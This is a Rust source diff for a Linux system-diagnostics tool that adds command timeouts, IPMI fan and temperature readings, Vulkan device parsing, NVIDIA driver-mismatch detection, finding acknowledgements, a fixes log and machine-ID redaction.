@@ -898,12 +3652,14 @@ fn read_battery_drain() -> Option<f32> {
     if battery.is_empty() {
         return None;
     }
-    let info = Command::new("upower")
-        .args(["-i", &battery])
-        .env("LC_ALL", "C") // Force C locale for consistent number format
-        .env("LANG", "C")
-        .output()
-        .ok()?;
+    let info = output_with_timeout(
+        Command::new("upower")
+            .args(["-i", &battery])
+            .env("LC_ALL", "C") // Force C locale for consistent number format
+            .env("LANG", "C"),
+        command_timeout(),
+    )
+    .ok()?;
     if !info.status.success() {
         return None;
     }
@@ -923,12 +3679,14 @@ fn read_battery_drain() -> Option<f32> {
 }
 
 fn wifi_networks() -> Option<Vec<WifiNetwork>> {
-    let output = Command::new("nmcli")
-        .args(["-t", "-f", "ACTIVE,CHAN,SIGNAL", "device", "wifi", "list"])
-        .env("LC_ALL", "C") // Force C locale for consistent number format
-        .env("LANG", "C")
-        .output()
-        .ok()?;
+    let output = output_with_timeout(
+        Command::new("nmcli")
+            .args(["-t", "-f", "ACTIVE,CHAN,SIGNAL", "device", "wifi", "list"])
+            .env("LC_ALL", "C") // Force C locale for consistent number format
+            .env("LANG", "C"),
+        command_timeout(),
+    )
+    .ok()?;
     if !output.status.success() {
         return None;
     }
@@ -954,34 +3712,88 @@ fn wifi_networks() -> Option<Vec<WifiNetwork>> {
     }
 }
 
-fn read_max_fan_speed() -> Option<f32> {
-    lazy_static! {
-        static ref FAN_RE: Regex = Regex::new(r"(?i)fan\d+:?\s+([0-9]+)\s*RPM").unwrap();
+/// Plausible sensor ranges; readings outside are stuck or garbage (e.g. -273°C)
+const SENSOR_TEMP_RANGE_C: std::ops::RangeInclusive<f32> = -40.0..=150.0;
+const SENSOR_FAN_RANGE_RPM: std::ops::RangeInclusive<f32> = 0.0..=60000.0;
+
+/// Kernel IPMI device nodes; only machines with a BMC (servers) have one
+const IPMI_DEVICES: &[&str] = &["/dev/ipmi0", "/dev/ipmi/0", "/dev/ipmidev/0"];
+
+/// `ipmitool sdr type <kind>` output, only attempted on hosts with a BMC
+fn read_ipmi_sdr(kind: &str) -> Option<String> {
+    if !IPMI_DEVICES.iter().any(|device| Path::new(device).exists())
+        || !is_command_available("ipmitool")
+    {
+        return None;
     }
-    run_cmd_c_locale("sensors", &[])?
-        .lines()
+    run_cmd_c_locale("ipmitool", &["sdr", "type", kind])
+}
+
+/// Readings in `unit` from `ipmitool sdr type` rows
+/// (`Inlet Temp | 04h | ok | 7.1 | 23 degrees C`); sensors without a
+/// reading (`ns`, `Disabled`) are skipped
+fn ipmi_sdr_readings(sdr: &str, unit: &str) -> Vec<f32> {
+    sdr.lines()
         .filter_map(|line| {
-            FAN_RE
-                .captures(line)
-                .and_then(|cap| cap.get(1))
-                .and_then(|m| m.as_str().parse::<f32>().ok())
+            let fields: Vec<&str> = line.split('|').map(str::trim).collect();
+            if fields.len() < 5 || fields[2] == "ns" {
+                return None;
+            }
+            fields[4].strip_suffix(unit)?.trim().parse().ok()
         })
+        .collect()
+}
+
+/// Largest reading within `range`
+fn max_reading(
+    readings: impl IntoIterator<Item = f32>,
+    range: &std::ops::RangeInclusive<f32>,
+) -> Option<f32> {
+    readings
+        .into_iter()
+        .filter(|value| range.contains(value))
         .max_by(|a, b| a.partial_cmp(b).unwrap_or(Ordering::Equal))
 }
 
+/// lm-sensors, plus the BMC on servers where `sensors` often sees nothing
+fn read_max_fan_speed() -> Option<f32> {
+    let sensors = run_cmd_c_locale("sensors", &[]).and_then(|text| max_fan_speed(&text));
+    let ipmi = read_ipmi_sdr("fan").map_or_else(Vec::new, |sdr| ipmi_sdr_readings(&sdr, "RPM"));
+    max_reading(sensors.into_iter().chain(ipmi), &SENSOR_FAN_RANGE_RPM)
+}
+
+fn max_fan_speed(sensors: &str) -> Option<f32> {
+    lazy_static! {
+        static ref FAN_RE: Regex = Regex::new(r"(?i)fan\d+:?\s+([0-9]+)\s*RPM").unwrap();
+    }
+    let readings = sensors.lines().filter_map(|line| {
+        FAN_RE
+            .captures(line)
+            .and_then(|cap| cap.get(1))
+            .and_then(|m| m.as_str().parse::<f32>().ok())
+    });
+    max_reading(readings, &SENSOR_FAN_RANGE_RPM)
+}
+
 fn read_max_temperature() -> Option<f32> {
+    let sensors = run_cmd_c_locale("sensors", &[]).and_then(|text| max_temperature(&text));
+    let ipmi = read_ipmi_sdr("temperature")
+        .map_or_else(Vec::new, |sdr| ipmi_sdr_readings(&sdr, "degrees C"));
+    max_reading(sensors.into_iter().chain(ipmi), &SENSOR_TEMP_RANGE_C)
+}
+
+/// Hottest reading across all adapters, ignoring out-of-range values
+fn max_temperature(sensors: &str) -> Option<f32> {
     lazy_static! {
         static ref TEMP_RE: Regex = Regex::new(r"([+-]?[0-9]+(\.[0-9]+)?)°C").unwrap();
     }
-    run_cmd_c_locale("sensors", &[])?
-        .lines()
-        .filter_map(|line| {
-            TEMP_RE
-                .captures(line)
-                .and_then(|cap| cap.get(1))
-                .and_then(|m| m.as_str().parse::<f32>().ok())
-        })
-        .max_by(|a, b| a.partial_cmp(b).unwrap_or(Ordering::Equal))
+    let readings = sensors.lines().filter_map(|line| {
+        TEMP_RE
+            .captures(line)
+            .and_then(|cap| cap.get(1))
+            .and_then(|m| m.as_str().parse::<f32>().ok())
+    });
+    max_reading(readings, &SENSOR_TEMP_RANGE_C)
 }
 
 fn current_session_type() -> Option<String> {
@@ -1000,10 +3812,11 @@ fn current_session_type() -> Option<String> {
 }
 
 fn count_dangling_images() -> Option<u32> {
-    let output = Command::new("docker")
-        .args(["image", "ls", "-f", "dangling=true", "-q"])
-        .output()
-        .ok()?;
+    let output = output_with_timeout(
+        Command::new("docker").args(["image", "ls", "-f", "dangling=true", "-q"]),
+        command_timeout(),
+    )
+    .ok()?;
     if !output.status.success() {
         return None;
     }
@@ -1024,12 +3837,14 @@ fn detect_pipewire_latency_ms() -> Option<f32> {
 }
 
 fn read_pipewire_latency(key: &str) -> Option<f32> {
-    let output = Command::new("pw-metadata")
-        .args(["-n", "settings", "0", key])
-        .env("LC_ALL", "C") // Force C locale for consistent number format
-        .env("LANG", "C")
-        .output()
-        .ok()?;
+    let output = output_with_timeout(
+        Command::new("pw-metadata")
+            .args(["-n", "settings", "0", key])
+            .env("LC_ALL", "C") // Force C locale for consistent number format
+            .env("LANG", "C"),
+        command_timeout(),
+    )
+    .ok()?;
     if !output.status.success() {
         return None;
     }
@@ -1049,7 +3864,7 @@ fn read_pipewire_latency(key: &str) -> Option<f32> {
 }
 
 fn detect_firefox_soft_render() -> Option<bool> {
-    let output = Command::new("glxinfo").arg("-B").output().ok()?;
+    let output = output_with_timeout(Command::new("glxinfo").arg("-B"), command_timeout()).ok()?;
     if !output.status.success() {
         return None;
     }
@@ -1087,10 +3902,11 @@ fn read_zfs_arc_percent() -> Option<f32> {
 }
 
 fn count_luks_devices() -> Option<u32> {
-    let output = Command::new("lsblk")
-        .args(["-ln", "-o", "TYPE"])
-        .output()
-        .ok()?;
+    let output = output_with_timeout(
+        Command::new("lsblk").args(["-ln", "-o", "TYPE"]),
+        command_timeout(),
+    )
+    .ok()?;
     if !output.status.success() {
         return None;
     }
@@ -1140,29 +3956,111 @@ fn detect_vulkan_loader_missing() -> bool {
     !is_command_available("vulkaninfo")
 }
 
+/// Where Vulkan ICD manifests (one JSON per driver) are installed
+const VULKAN_ICD_DIRS: &[&str] = &["/usr/share/vulkan/icd.d", "/etc/vulkan/icd.d"];
+
+#[derive(Clone, Debug, Default, PartialEq)]
+struct VulkanDevice {
+    name: String,
+    device_type: String,
+    driver: Option<String>,
+}
+
+impl VulkanDevice {
+    fn is_discrete(&self) -> bool {
+        self.device_type.ends_with("DISCRETE_GPU")
+    }
+
+    /// lavapipe/llvmpipe software rasterizers
+    fn is_software(&self) -> bool {
+        self.device_type.ends_with("_CPU")
+    }
+}
+
+fn read_vulkan_devices() -> Option<Vec<VulkanDevice>> {
+    if !is_command_available("vulkaninfo") {
+        return None;
+    }
+    run_cmd_c_locale("vulkaninfo", &["--summary"]).map(|text| parse_vulkan_summary(&text))
+}
+
+/// Physical devices from the "Devices:" block of `vulkaninfo --summary`
+fn parse_vulkan_summary(text: &str) -> Vec<VulkanDevice> {
+    lazy_static! {
+        static ref GPU_HEADER_RE: Regex = Regex::new(r"^GPU\d+:\s*$").unwrap();
+    }
+    let mut devices = Vec::new();
+    let mut current: Option<VulkanDevice> = None;
+    for line in text.lines() {
+        let trimmed = line.trim();
+        if GPU_HEADER_RE.is_match(trimmed) {
+            devices.extend(current.take());
+            current = Some(VulkanDevice::default());
+            continue;
+        }
+        let Some(device) = current.as_mut() else {
+            continue;
+        };
+        let Some((key, value)) = trimmed.split_once('=') else {
+            continue;
+        };
+        let value = value.trim().to_string();
+        match key.trim() {
+            "deviceName" => device.name = value,
+            "deviceType" => device.device_type = value,
+            "driverName" => device.driver = Some(value),
+            _ => {}
+        }
+    }
+    devices.extend(current);
+    devices.retain(|device| !device.name.is_empty());
+    devices
+}
+
+fn vulkan_icd_manifests() -> Vec<String> {
+    let mut manifests = Vec::new();
+    for dir in VULKAN_ICD_DIRS {
+        let Ok(entries) = fs::read_dir(dir) else {
+            continue;
+        };
+        for entry in entries.flatten() {
+            let name = entry.file_name().to_string_lossy().to_string();
+            if name.ends_with(".json") {
+                manifests.push(name);
+            }
+        }
+    }
+    manifests.sort();
+    manifests.dedup();
+    manifests
+}
+
+/// Security: Validate command name to prevent injection attacks
+/// Only allow alphanumeric characters, dash, and underscore (no paths/slashes)
+fn is_valid_command_name(cmd: &str) -> bool {
+    !cmd.is_empty()
+        && cmd
+            .chars()
+            .all(|c| c.is_alphanumeric() || c == '-' || c == '_')
+}
+
 pub fn is_command_available(cmd: &str) -> bool {
-    // Security: Validate command name to prevent injection attacks
-    // Only allow alphanumeric characters, dash, and underscore (no paths/slashes)
-    if !cmd
-        .chars()
-        .all(|c| c.is_alphanumeric() || c == '-' || c == '_')
-    {
+    if !is_valid_command_name(cmd) {
         return false;
     }
 
     // Use 'which' directly without shell for safety
-    Command::new("which")
-        .arg(cmd)
-        .stdout(std::process::Stdio::null())
-        .stderr(std::process::Stdio::null())
-        .status()
-        .map(|s| s.success())
-        .unwrap_or(false)
+    spawn_with_timeout(Command::new("which").arg(cmd), command_timeout())
+        .is_ok_and(|out| out.status.success())
 }
 
 fn detect_gpu_info() -> Option<GpuDetails> {
+    detect_gpu_info_from(query_nvidia().as_ref())
+}
+
+fn detect_gpu_info_from(nvidia: Option<&NvidiaQuery>) -> Option<GpuDetails> {
     // Try NVIDIA proprietary tools first
-    if let Some(info) = nvidia_gpu_info() {
+    if let Some(info) = nvidia.and_then(|nvidia| parse_nvidia_gpu(nvidia.rows())) {
         return Some(info);
     }
 
@@ -1185,21 +4083,53 @@ fn detect_gpu_info() -> Option<GpuDetails> {
     lspci_gpu_info()
 }
 
-fn nvidia_gpu_info() -> Option<GpuDetails> {
-    let output = Command::new("nvidia-smi")
-        .args([
-            "--query-gpu=name,driver_version,temperature.gpu,utilization.gpu,memory.used,memory.total,fan.speed",
-            "--format=csv,noheader,nounits",
-        ])
-        .env("LC_ALL", "C")  // Force C locale for consistent number format
-        .env("LANG", "C")
-        .output()
-        .ok()?;
-    if !output.status.success() {
-        return None;
+/// Every nvidia-smi field `why` reads, asked for in a single `--query-gpu`
+const NVIDIA_QUERY_FIELDS: &str = "name,driver_version,temperature.gpu,utilization.gpu,\
+memory.used,memory.total,fan.speed,clocks.sm,clocks.max.sm,clocks.mem,clocks.max.mem,\
+encoder.stats.sessionCount,power.draw";
+
+/// What the nvidia-smi query returned
+enum NvidiaQuery {
+    /// One CSV row per GPU, in `NVIDIA_QUERY_FIELDS` order
+    Rows(String),
+    /// nvidia-smi ran but failed; `mismatch` when NVML blamed a
+    /// driver/library version mismatch
+    Failed { mismatch: bool },
+}
+
+impl NvidiaQuery {
+    fn rows(&self) -> &str {
+        match self {
+            NvidiaQuery::Rows(rows) => rows,
+            NvidiaQuery::Failed { .. } => "",
+        }
     }
-    let text = String::from_utf8_lossy(&output.stdout).to_string();
-    let line = text.lines().find(|line| !line.trim().is_empty())?;
+}
+
+/// None when nvidia-smi is missing or hangs
+fn query_nvidia() -> Option<NvidiaQuery> {
+    let query = format!("--query-gpu={NVIDIA_QUERY_FIELDS}");
+    let output = output_with_timeout(
+        Command::new("nvidia-smi")
+            .args([query.as_str(), "--format=csv,noheader,nounits"])
+            .env("LC_ALL", "C") // Force C locale for consistent number format
+            .env("LANG", "C"),
+        command_timeout(),
+    )
+    .ok()?;
+    let stdout = String::from_utf8_lossy(&output.stdout).to_string();
+    if output.status.success() {
+        return Some(NvidiaQuery::Rows(stdout));
+    }
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    Some(NvidiaQuery::Failed {
+        mismatch: is_nvml_mismatch(&format!("{stdout}{stderr}")),
+    })
+}
+
+/// The first GPU of a `NVIDIA_QUERY_FIELDS` CSV
+fn parse_nvidia_gpu(csv: &str) -> Option<GpuDetails> {
+    let line = csv.lines().find(|line| !line.trim().is_empty())?;
     let parts: Vec<&str> = line.split(',').map(|item| item.trim()).collect();
     // Need at least 7 elements (indices 0-6) for all fields including fan_speed at index 6
     if parts.len() < 7 {
@@ -1212,7 +4142,7 @@ fn nvidia_gpu_info() -> Option<GpuDetails> {
     let fan_speed = parts.get(6).and_then(|value| value.parse::<f32>().ok());
     Some(GpuDetails {
         vendor: "nvidia".into(),
-        model: parts.get(0).map(|s| s.to_string()),
+        model: parts.first().map(|s| s.to_string()),
         driver: parts.get(1).map(|s| s.to_string()),
         temperature,
         utilization,
@@ -1222,19 +4152,96 @@ fn nvidia_gpu_info() -> Option<GpuDetails> {
     })
 }
 
+const NVIDIA_VERSION_PATH: &str = "/proc/driver/nvidia/version";
+
+/// Loaded kernel module vs the driver installed on disk. They differ after a
+/// driver upgrade until the module is reloaded, and NVML then refuses to work.
+#[derive(Debug, Default, PartialEq)]
+struct NvidiaDriverState {
+    /// From /proc/driver/nvidia/version
+    loaded: Option<String>,
+    /// From `modinfo -F version nvidia`
+    installed: Option<String>,
+    /// nvidia-smi failed with "Driver/library version mismatch"
+    nvml_mismatch: bool,
+}
+
+impl NvidiaDriverState {
+    fn mismatch(&self) -> bool {
+        self.nvml_mismatch
+            || matches!((&self.loaded, &self.installed), (Some(loaded), Some(installed)) if loaded != installed)
+    }
+}
+
+/// Module version from `/proc/driver/nvidia/version`, for both the
+/// proprietary ("Kernel Module  550.54.14") and open ("Open Kernel Module for
+/// x86_64  550.54.14") wordings
+fn parse_nvrm_version(text: &str) -> Option<String> {
+    let line = text
+        .lines()
+        .find(|line| line.starts_with("NVRM version:"))?;
+    line.split_whitespace()
+        .find(|word| {
+            word.contains('.')
+                && word
+                    .split('.')
+                    .all(|part| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit()))
+        })
+        .map(str::to_string)
+}
+
+fn is_nvml_mismatch(output: &str) -> bool {
+    output
+        .to_ascii_lowercase()
+        .contains("driver/library version mismatch")
+}
+
+/// None on machines without the NVIDIA driver
+fn read_nvidia_driver_state() -> Option<NvidiaDriverState> {
+    nvidia_driver_state(query_nvidia().as_ref(), true)
+}
+
+/// `with_modinfo` also reads the installed version, which costs a modinfo run
+fn nvidia_driver_state(
+    nvidia: Option<&NvidiaQuery>,
+    with_modinfo: bool,
+) -> Option<NvidiaDriverState> {
+    let loaded = fs::read_to_string(NVIDIA_VERSION_PATH)
+        .ok()
+        .and_then(|text| parse_nvrm_version(&text));
+    if loaded.is_none() && nvidia.is_none() {
+        return None;
+    }
+    let installed = if with_modinfo {
+        run_cmd_c_locale("modinfo", &["-F", "version", "nvidia"])
+            .map(|version| version.trim().to_string())
+            .filter(|version| !version.is_empty())
+    } else {
+        None
+    };
+    let nvml_mismatch = matches!(nvidia, Some(NvidiaQuery::Failed { mismatch: true }));
+    Some(NvidiaDriverState {
+        loaded,
+        installed,
+        nvml_mismatch,
+    })
+}
+
 fn amd_gpu_info() -> Option<GpuDetails> {
-    let output = Command::new("rocm-smi")
-        .args([
-            "--showtemp",
-            "--showuse",
-            "--showmeminfo",
-            "vram",
-            "--showfan",
-        ])
-        .env("LC_ALL", "C") // Force C locale for consistent number format
-        .env("LANG", "C")
-        .output()
-        .ok()?;
+    let output = output_with_timeout(
+        Command::new("rocm-smi")
+            .args([
+                "--showtemp",
+                "--showuse",
+                "--showmeminfo",
+                "vram",
+                "--showfan",
+            ])
+            .env("LC_ALL", "C") // Force C locale for consistent number format
+            .env("LANG", "C"),
+        command_timeout(),
+    )
+    .ok()?;
     if !output.status.success() {
         return None;
     }
@@ -1251,23 +4258,23 @@ fn amd_gpu_info() -> Option<GpuDetails> {
         let lower = line.to_ascii_lowercase();
         if lower.contains("temperature") && temperature.is_none() {
             temperature = NUM_REGEX
-                .find(&line)
+                .find(line)
                 .and_then(|m| m.as_str().parse::<f32>().ok());
         } else if lower.contains("gpu use") && utilization.is_none() {
             utilization = NUM_REGEX
-                .find(&line)
+                .find(line)
                 .and_then(|m| m.as_str().parse::<f32>().ok());
         } else if lower.contains("vram used") {
             mem_used = NUM_REGEX
-                .find(&line)
+                .find(line)
                 .and_then(|m| m.as_str().parse::<f32>().ok());
         } else if lower.contains("vram total") {
             mem_total = NUM_REGEX
-                .find(&line)
+                .find(line)
                 .and_then(|m| m.as_str().parse::<f32>().ok());
         } else if lower.contains("fan speed") && lower.contains("%") {
             fan_speed = NUM_REGEX
-                .find(&line)
+                .find(line)
                 .and_then(|m| m.as_str().parse::<f32>().ok());
         } else if lower.contains("card series") || lower.contains("card model") {
             model = line.split(':').nth(1).map(|s| s.trim().to_string());
@@ -1390,7 +4397,7 @@ fn sysfs_gpu_info() -> Option<GpuDetails> {
 }
 
 fn renderer_from_glxinfo() -> Option<GpuDetails> {
-    let output = Command::new("glxinfo").arg("-B").output().ok()?;
+    let output = output_with_timeout(Command::new("glxinfo").arg("-B"), command_timeout()).ok()?;
     if !output.status.success() {
         return None;
     }
@@ -1424,11 +4431,13 @@ fn renderer_from_glxinfo() -> Option<GpuDetails> {
 }
 
 fn lspci_gpu_info() -> Option<GpuDetails> {
-    let output = Command::new("sh")
-        .arg("-c")
-        .arg("lspci -nnk | grep -A2 -E '(VGA|3D)'")
-        .output()
-        .ok()?;
+    let output = output_with_timeout(
+        Command::new("sh")
+            .arg("-c")
+            .arg("lspci -nnk | grep -A2 -E '(VGA|3D)'"),
+        command_timeout(),
+    )
+    .ok()?;
     if !output.status.success() {
         return None;
     }
@@ -1457,2421 +4466,11916 @@ fn normalize_vendor_label(label: &str) -> String {
     }
 }
 
+/// Drop findings below `--min-severity`
+fn retain_min_severity(findings: &mut Vec<Finding>, min_severity: u8) {
+    findings.retain(|finding| finding.severity_value >= min_severity);
+}
+
 fn correlate_findings(findings: &mut Vec<Finding>) {
     let mut seen = HashSet::new();
     findings.retain(|finding| seen.insert(finding.rule_name.clone()));
-    findings.sort_by(|a, b| b.severity_value.cmp(&a.severity_value));
+    findings.sort_by_key(|f| std::cmp::Reverse(f.severity_value));
 }
 
-fn log_to_history(findings: &[Finding]) -> Result<()> {
-    if findings.is_empty() {
-        return Ok(());
-    }
-    let cache_dir = user_home_dir()
+/// Numeric metric a condition compares against (used to re-arm acked findings)
+fn condition_metric_value(condition: &Condition, metrics: &Metrics) -> Option<f32> {
+    condition_metric(condition, metrics).flatten()
+}
+
+/// `None` for conditions that compare no number (flags and text that were
+/// gathered, processes, logs, environment), `Some(None)` when the metric or
+/// flag was not gathered on this run
+fn condition_metric(condition: &Condition, metrics: &Metrics) -> Option<Option<f32>> {
+    let value = match condition {
+        Condition::Not(inner) => return condition_metric(inner, metrics),
+        Condition::CpuGreater(_) | Condition::CpuLess(_) => metrics.cpu_usage,
+        Condition::MemGreater(_) | Condition::MemLess(_) => Some(metrics.mem_usage),
+        Condition::TotalRamLess(_) | Condition::TotalRamGreater(_) => {
+            Some(metrics.total_ram_mb as f32)
+        }
+        Condition::SwapGreater(_) => Some(metrics.swap_usage_percent),
+        Condition::LoadAvgGreater(_) => metrics.load_avg_1,
+        Condition::ProcessMemPercentGreater { name, .. } => process_memory_percent(metrics, name),
+        Condition::ProcessCountGreater(_) => Some(metrics.process_count as f32),
+        Condition::DiskFullGreater(_) => Some(metrics.disk_full_percent),
+        Condition::InodeFullGreater(_) => metrics.inode_full_percent,
+        Condition::SnapLoopsGreater(_) => metrics.snap_loops.map(|v| v as f32),
+        Condition::FlatpakUnusedGreater(_) => metrics.flatpak_unused.map(|v| v as f32),
+        Condition::BatteryDrainGreater(_) => metrics.battery_drain_w,
+        Condition::WifiChannelCountGreater(_) => metrics.wifi_channel_count.map(|v| v as f32),
+        Condition::WifiSignalLess(_) => metrics.wifi_signal_dbm,
+        Condition::FanSpeedGreater(_) => metrics.fan_speed_rpm,
+        Condition::TemperatureGreater(_) => metrics.temperature_c,
+        Condition::DockerDanglingGreater(_) => metrics.docker_dangling.map(|v| v as f32),
+        Condition::PipewireLatencyGreater(_) => metrics.pipewire_latency_ms,
+        Condition::ZfsArcPercentGreater(_) => metrics.zfs_arc_full_percent,
+        Condition::LuksDevicesGreater(_) => metrics.luks_device_count.map(|v| v as f32),
+        Condition::GpuTempGreater(_) | Condition::GpuTempLess(_) => {
+            metrics.gpu.as_ref().and_then(|gpu| gpu.temperature)
+        }
+        Condition::GpuUtilGreater(_) => metrics.gpu.as_ref().and_then(|gpu| gpu.utilization),
+        Condition::GpuMemUtilGreater(_) => metrics
+            .gpu
+            .as_ref()
+            .and_then(|gpu| gpu.memory_utilization()),
+        Condition::GpuMemUsedGreater(_) => metrics.gpu.as_ref().and_then(|gpu| gpu.memory_used_mb),
+        Condition::ConntrackUsageGreater(_) => metrics.conntrack_usage_percent,
+        Condition::TmpfsFullGreater(_) => metrics.tmpfs_full_percent,
+        Condition::VulkanDeviceCountLess(_) => metrics.vulkan_device_count.map(|v| v as f32),
+        Condition::IowaitGreater(_) => metrics.iowait_percent,
+        Condition::FirmwareUpdatesGreater(_) => metrics.firmware_updates.map(|v| v as f32),
+        Condition::CoredumpSizeGreater(_) => metrics.coredump_size_mb,
+        Condition::UnitRestartsGreater(_) => metrics.unit_restarts.map(|v| v as f32),
+        // No number to compare, but a flag or text probe can still be unset
+        Condition::FilesystemEquals(_) => return unset(metrics.filesystem.is_none()),
+        Condition::WaylandVsX11(_) => return unset(metrics.wayland_vs_x11.is_none()),
+        Condition::FirefoxSoftRender(_) => return unset(metrics.firefox_soft_render.is_none()),
+        Condition::GpuVendorEquals(_) => return unset(metrics.gpu.is_none()),
+        Condition::PrimeOffloadEquals(_) => return unset(metrics.prime_offload_enabled.is_none()),
+        Condition::GamescopeRunning(_) => return unset(metrics.gamescope_running.is_none()),
+        Condition::SteamRunning(_) => return unset(metrics.steam_running.is_none()),
+        Condition::ProtonFailures(_) => return unset(metrics.proton_failure_detected.is_none()),
+        Condition::VulkanLoaderMissing(_) => return unset(metrics.vulkan_loader_missing.is_none()),
+        Condition::StaleMount(_) => return unset(metrics.stale_mounts.is_none()),
+        Condition::HwEncoderMissing(_) => return unset(metrics.hw_encoder_missing.is_none()),
+        Condition::GpuDriverMismatch(_) => return unset(metrics.gpu_driver_mismatch.is_none()),
+        Condition::GpuUnderclocked(_) => return unset(metrics.gpu_underclocked.is_none()),
+        // The process list is always read; logs and the environment are not metrics
+        Condition::ProcessContains(_)
+        | Condition::LogContains(_)
+        | Condition::EnvEquals { .. }
+        | Condition::EnvSet { .. } => return None,
+    };
+    Some(value)
+}
+
+/// `Some(None)` (not gathered) when `missing`, else `None` (no value)
+fn unset(missing: bool) -> Option<Option<f32>> {
+    missing.then_some(None)
+}
+
+/// First numeric metric of a rule's trigger
+fn rule_metric_value(trigger: &Trigger, metrics: &Metrics) -> Option<f32> {
+    trigger
+        .conditions()
+        .into_iter()
+        .find_map(|condition| condition_metric_value(condition, metrics))
+}
+
+fn apply_acks(
+    findings: &mut Vec<Finding>,
+    store: &acks::AckStore,
+    parsed_rules: &[(Trigger, Rule)],
+    metrics: &Metrics,
+) {
+    findings.retain(|finding| {
+        let value = parsed_rules
+            .iter()
+            .find(|(_, rule)| rule.name == finding.rule_name)
+            .and_then(|(trigger, _)| rule_metric_value(trigger, metrics));
+        !store.is_suppressed(&finding.rule_name, value)
+    });
+}
+
+fn ack_rule(
+    rule_name: &str,
+    parsed_rules: &[(Trigger, Rule)],
+    metrics: &Metrics,
+    store: &mut acks::AckStore,
+    path: &Path,
+) -> Result<()> {
+    // Accept a finding ID as printed by --format json
+    let rule_name = rule_name.split(['@', '#']).next().unwrap_or(rule_name);
+    let Some((trigger, rule)) = parsed_rules.iter().find(|(_, rule)| rule.name == rule_name) else {
+        return Err(anyhow!(t!("ack_unknown_rule").replace("{rule}", rule_name)));
+    };
+    let value = rule_metric_value(trigger, metrics);
+    store.ack(&rule.name, value);
+    acks::save(path, store)?;
+    let message = match value {
+        Some(value) => t!("ack_saved_value")
+            .replace("{rule}", &rule.name)
+            .replace("{value}", &format!("{value:.1}")),
+        None => t!("ack_saved").replace("{rule}", &rule.name),
+    };
+    println!("{}", message.green());
+    Ok(())
+}
+
+/// ~/.cache/why (history, acks)
+fn cache_dir() -> PathBuf {
+    user_home_dir()
         .map(|mut path| {
             path.push(HISTORY_DIR);
             path
         })
-        .unwrap_or_else(|| PathBuf::from(HISTORY_DIR));
-    fs::create_dir_all(&cache_dir).context("Unable to create cache directory")?;
-    let mut db_path = cache_dir;
-    db_path.push(HISTORY_FILE);
+        .unwrap_or_else(|| PathBuf::from(HISTORY_DIR))
+}
 
-    let conn = Connection::open(db_path).context("Unable to open history database")?;
-    conn.execute(
-        "CREATE TABLE IF NOT EXISTS findings(
-            ts TEXT NOT NULL,
-            severity TEXT NOT NULL CHECK(length(severity) <= 100),
-            message TEXT NOT NULL CHECK(length(message) <= 1000),
-            solution TEXT NOT NULL CHECK(length(solution) <= 2000)
-        )",
-        [],
-    )
-    .context("Unable to create table")?;
-    let timestamp: DateTime<Utc> = Utc::now();
-    for finding in findings.iter().take(5) {
-        conn.execute(
-            "INSERT INTO findings(ts, severity, message, solution) VALUES (?1, ?2, ?3, ?4)",
-            params![
-                timestamp.to_rfc3339(),
-                finding.severity,
-                finding.message,
-                finding.solution
-            ],
-        )
-        .context("Unable to insert finding")?;
-    }
-    Ok(())
+fn history_db_path() -> PathBuf {
+    let mut path = cache_dir();
+    path.push(HISTORY_FILE);
+    path
 }
 
-fn print_findings_table(findings: &[Finding]) {
-    let severity_header = t!("severity_header").to_string();
-    let diagnosis_header = t!("diagnosis_header").to_string();
-    let solution_header = t!("solution_header").to_string();
-    let line = "─".repeat(100);
-    println!(
-        "{:<12} │ {:<50} │ {}",
-        severity_header, diagnosis_header, solution_header
-    );
-    println!("{line}");
-    for finding in findings {
-        println!(
-            "{:<12} │ {:<50} │ {}",
-            finding.severity,
-            truncate(&finding.message, 50),
-            finding.solution
-        );
-    }
+fn fixes_log_path() -> PathBuf {
+    let mut path = cache_dir();
+    path.push(FIXES_LOG_FILE);
+    path
 }
 
-#[derive(Clone, Copy)]
-enum InsightLevel {
-    Info,
-    Good,
-    Warning,
-    Critical,
+/// One `fixes.log` entry: when, which rule, how the command exited and the command itself
+fn fix_log_line(ts: &str, rule_name: &str, cmd: &str, status: &str) -> String {
+    format!("[{ts}] {rule_name} (exit {status}): {cmd}")
 }
 
-struct InsightLine {
-    level: InsightLevel,
-    message: String,
+fn append_fix_log(path: &Path, line: &str) -> Result<()> {
+    if let Some(parent) = path.parent() {
+        fs::create_dir_all(parent).context("Unable to create cache directory")?;
+    }
+    let mut file = fs::OpenOptions::new()
+        .create(true)
+        .append(true)
+        .open(path)
+        .with_context(|| format!("Failed to open {}", path.display()))?;
+    writeln!(file, "{line}").with_context(|| format!("Failed to write {}", path.display()))
 }
 
-type SectionResult = std::result::Result<Vec<InsightLine>, String>;
+/// `why fixes`: the last `FIXES_SHOWN` applied auto-fixes
+fn show_fixes_log(path: &Path) -> Result<()> {
+    let log = fs::read_to_string(path).unwrap_or_default();
+    let entries: Vec<&str> = log.lines().filter(|line| !line.trim().is_empty()).collect();
+    let lines = if entries.is_empty() {
+        vec![InsightLine {
+            level: InsightLevel::Warning,
+            message: t!("fixes_log_empty").to_string(),
+        }]
+    } else {
+        entries[entries.len().saturating_sub(FIXES_SHOWN)..]
+            .iter()
+            .map(|line| InsightLine {
+                level: InsightLevel::Info,
+                message: line.to_string(),
+            })
+            .collect()
+    };
+    let title = t!("fixes_log_header").replace("{path}", &path.display().to_string());
+    print_section(&title, Ok(lines));
+    Ok(())
+}
 
-fn stylize_insight(line: &InsightLine) -> colored::ColoredString {
-    match line.level {
-        InsightLevel::Info => line.message.clone().dimmed(),
-        InsightLevel::Good => line.message.clone().green(),
-        InsightLevel::Warning => line.message.clone().yellow(),
-        InsightLevel::Critical => line.message.clone().red().bold(),
+/// systemd's per-install ID; dbus keeps a copy on older systems
+const MACHINE_ID_PATHS: &[&str] = &["/etc/machine-id", "/var/lib/dbus/machine-id"];
+
+/// Application ID keying `--redact`, as `sd_id128_get_machine_app_specific`
+/// expects one per program (generated once, never to change)
+const MACHINE_ID_APP: [u8; 16] = [
+    0x1e, 0x88, 0xb9, 0x3e, 0x6a, 0x10, 0x4f, 0x64, 0xa2, 0xba, 0xb7, 0x27, 0x6a, 0x3f, 0xa6, 0x56,
+];
+
+/// Stable host identifier for `--machine-id`. `--redact` derives systemd's
+/// app-specific ID instead (HMAC-SHA256 keyed by the machine ID over
+/// `MACHINE_ID_APP`, as a v4 UUID): stable per host, not linkable to the ID
+/// journald or dbus expose, and not reversible by hashing candidate IDs.
+fn host_machine_id(raw: &str, redact: bool) -> Option<String> {
+    let id = raw.trim();
+    if id.is_empty() {
+        return None;
+    }
